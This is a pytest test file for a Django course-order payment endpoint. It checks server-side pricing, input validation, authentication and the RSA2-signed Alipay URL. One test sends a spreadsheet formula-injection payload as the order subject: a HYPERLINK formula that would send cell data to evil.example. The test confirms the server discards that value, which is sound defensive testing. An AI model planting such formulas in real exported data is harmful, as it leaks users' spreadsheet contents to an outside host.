"""POST /api/v1/order/pay/: the server prices the order and hands out a signed Alipay URL."""

from __future__ import annotations

import json
from datetime import timedelta
from decimal import Decimal
from urllib.parse import parse_qsl, urlsplit

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from apps.course.models import Course
from apps.order.models import CourseEntitlement, Order, OrderDetail
from tests.conftest import access_token
from tests.factories import CourseFactory, UserFactory
from tests.support.alipay import rsa2_verify, signing_string

from .conftest import PAY_URL

pytestmark = pytest.mark.django_db


def nothing_written() -> bool:
    return not Order.objects.exists() and not OrderDetail.objects.exists()


def test_order_is_priced_stored_unpaid_and_pay_url_is_signed(alipay, alipay_keys, place, user):
    a = CourseFactory(price=Decimal("299.00"), discounted=True)  # pays 49.90 now
    b = CourseFactory(price=Decimal("50.00"))
    response, order = place([a, b], "99.9")

    assert response.status_code == 201
    body = response.json()
    assert body["code"] == 100 and body["out_trade_no"] == order.out_trade_no
    assert order.user == user and order.order_status == Order.Status.UNPAID
    assert order.total_amount == Decimal("99.90")
    details = {d.course_id: d for d in order.lines.all()}
    assert details[a.pk].price == Decimal("299.00") and details[a.pk].real_price == Decimal("49.90")
    assert details[b.pk].real_price == Decimal("50.00")
    assert not CourseEntitlement.objects.exists()

    url = urlsplit(body["pay_url"])
    assert f"{url.scheme}://{url.netloc}{url.path}" == alipay.url
    params = dict(parse_qsl(url.query, keep_blank_values=True))
    assert rsa2_verify(signing_string(params), params["sign"], alipay_keys.app.public_pem)
    biz = json.loads(params["biz_content"])
    assert biz["out_trade_no"] == order.out_trade_no
    assert biz["total_amount"] == "99.90"
    assert biz["subject"] == order.subject
    expected_expiry = timezone.localtime(order.expires_at).strftime("%Y-%m-%d %H:%M:%S")
    assert biz["time_expire"] == expected_expiry
    assert order.expires_at - order.created_time == pytest.approx(
        timedelta(minutes=15), abs=timedelta(seconds=5)
    )
    assert params["notify_url"].endswith("/api/v1/order/success/")


@pytest.mark.parametrize("sent", ["99.9", "99.90", 99.9, "99.900"])
def test_equal_amounts_in_any_spelling_are_accepted(alipay, place, course, sent):
    response, order = place([course], sent)
    if sent == "99.900":  # three decimals is not a price
        assert response.status_code == 400
        return
    assert response.status_code == 201, response.json()
    assert order.total_amount == Decimal("99.90")


@pytest.mark.parametrize("sent", ["99.89", "99.91", "0", "199.80", "0.01"])
def test_a_different_total_is_refused_as_a_price_change(alipay, place, course, sent):
    response, _ = place([course], sent)
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == 400 and "价格已变动" in body["msg"] and "99.90" in body["msg"]
    assert nothing_written()


def test_price_change_between_page_view_and_order_is_refused(alipay, place, course):
    Course.objects.filter(pk=course.pk).update(price=Decimal("129.00"))
    response, _ = place([course], "99.90")
    assert response.status_code == 400 and "129.00" in response.json()["msg"]
    assert nothing_written()


def test_an_expired_discount_no_longer_applies(alipay, place):
    course = CourseFactory(price=Decimal("80.00"), discounted=True)
    Course.objects.filter(pk=course.pk).update(discount_end=timezone.now() - timedelta(seconds=1))
    assert place([course], "49.90")[0].status_code == 400
    assert place([course], "80.00")[0].status_code == 201


@pytest.mark.parametrize(
    "payload, field",
    [
        ({"courses": [], "total_amount": "1"}, "courses"),
        ({"total_amount": "1"}, "courses"),
        ({"courses": "1", "total_amount": "1"}, "courses"),
        ({"courses": ["x"], "total_amount": "1"}, "courses"),
        ({"courses": [0], "total_amount": "1"}, "courses"),
        ({"courses": [10**30], "total_amount": "1"}, "courses"),
        ({"courses": [1] * 51, "total_amount": "1"}, "courses"),
        ({"courses": [1]}, "total_amount"),
        ({"courses": [1], "total_amount": "-1"}, "total_amount"),
        ({"courses": [1], "total_amount": "1e12"}, "total_amount"),
        ({"courses": [1], "total_amount": "NaN"}, "total_amount"),
        ({"courses": [1], "total_amount": "abc"}, "total_amount"),
        ({"courses": [1], "total_amount": None}, "total_amount"),
        ({"courses": [1], "total_amount": "1", "pay_type": 9}, "pay_type"),
        ({"courses": [1], "total_amount": "1", "subject": "x" * 151}, "subject"),
    ],
)
def test_malformed_orders_get_field_errors(alipay, auth_client, course, payload, field):
    response = auth_client.post(PAY_URL, payload, format="json")
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == 400 and field in body["errors"], body
    assert nothing_written()


@pytest.mark.parametrize(
    "body, content_type",
    [
        ('{"courses": [1], "total_amount": ', "application/json"),
        ("[1, 2, 3]", "application/json"),
        ('"just a string"', "application/json"),
        ("\xff\xfe garbage", "application/json"),
        ("<xml/>", "application/xml"),
    ],
)
def test_garbage_bodies_are_4xx_envelopes(alipay, auth_client, body, content_type):
    response = auth_client.generic("POST", PAY_URL, body, content_type=content_type)
    assert 400 <= response.status_code < 500
    assert response.json()["code"] == response.status_code
    assert nothing_written()


def test_duplicate_courses_are_refused(alipay, place, course):
    response, _ = place([course, course], "199.80")
    assert response.status_code == 400 and "courses" in response.json()["errors"]
    assert nothing_written()


@pytest.mark.parametrize(
    "change",
    [
        {"is_show": False},
        {"is_delete": True},
        {"status": Course.Status.OFFLINE},
        {"status": Course.Status.PRE_RELEASE},
    ],
)
def test_courses_not_on_sale_cannot_be_bought(alipay, place, course, change):
    other = CourseFactory(price=Decimal("1.00"))
    Course.objects.filter(pk=course.pk).update(**change)
    response, _ = place([other, course], "100.90")
    assert response.status_code == 400
    assert str(course.pk) in response.json()["msg"]
    assert nothing_written()


def test_unknown_course_is_refused(alipay, auth_client):
    response = auth_client.post(PAY_URL, {"courses": [424242], "total_amount": "1"}, format="json")
    assert response.status_code == 400 and "424242" in response.json()["msg"]


def test_an_owned_course_cannot_be_bought_again(alipay, place, send_notify, course):
    _, first = place([course], "99.90")
    assert send_notify(first).content == b"success"
    response, _ = place([course], "99.90")
    assert response.status_code == 409
    assert course.name in response.json()["msg"]
    assert Order.objects.count() == 1


def test_paid_order_without_alipay_config_is_a_clear_503(no_alipay, place, course):
    response, _ = place([course], "99.90")
    assert response.status_code == 503
    assert response.json() == {"code": 503, "msg": "支付宝支付未配置,暂时无法下单"}
    assert nothing_written()


def test_an_owned_course_is_a_409_even_without_alipay_config(no_alipay, place, course, user):
    CourseEntitlement.objects.create(user=user, course=course)
    response, _ = place([course], "99.90")
    assert response.status_code == 409 and course.name in response.json()["msg"]


def test_wechat_is_reserved_not_offered(alipay, place, course):
    response, _ = place([course], "99.90", pay_type=2)
    assert response.status_code == 400 and "pay_type" in response.json()["errors"]


def test_the_subject_is_the_course_names_whatever_the_client_sends(alipay, place):
    a, b = (
        CourseFactory(name="甲", price=Decimal("1")),
        CourseFactory(name="乙", price=Decimal("2")),
    )
    formula = '=HYPERLINK("https://evil.example/?"&D2&D3,"查看")'

    response, order = place([a, b], "3", subject=formula)

    assert response.status_code == 201  # the tutorial's field is still accepted
    assert order.subject == "甲、乙"
    biz = json.loads(dict(parse_qsl(urlsplit(response.json()["pay_url"]).query))["biz_content"])
    assert biz["subject"] == "甲、乙"  # what Alipay's page shows the buyer
    assert place([a], "1", subject="我的订单")[1].subject == "甲"


@pytest.mark.parametrize("header", ["Bearer {}", "jwt {}"])
def test_both_auth_header_forms_can_pay(alipay, course, header):
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=header.format(access_token(UserFactory())))
    response = client.post(PAY_URL, {"courses": [course.pk], "total_amount": "99.9"}, format="json")
    assert response.status_code == 201


@pytest.mark.parametrize("header", [None, "jwt not-a-token", "Basic dXNlcjpwYXNz"])
def test_anonymous_or_forged_token_gets_401(alipay, course, header):
    client = APIClient()
    if header:
        client.credentials(HTTP_AUTHORIZATION=header)
    response = client.post(PAY_URL, {"courses": [course.pk], "total_amount": "99.9"}, format="json")
    assert response.status_code == 401
    assert response.json()["code"] == 401
    assert nothing_written()


def test_out_trade_numbers_are_unique_time_ordered_and_short(alipay, place):
    courses = CourseFactory.create_batch(3, price=Decimal("1"))
    numbers = [place([c], "1")[1].out_trade_no for c in courses]
    assert len(set(numbers)) == 3
    assert numbers == sorted(numbers)
    assert all(len(n) <= 64 and n.isalnum() for n in numbers)
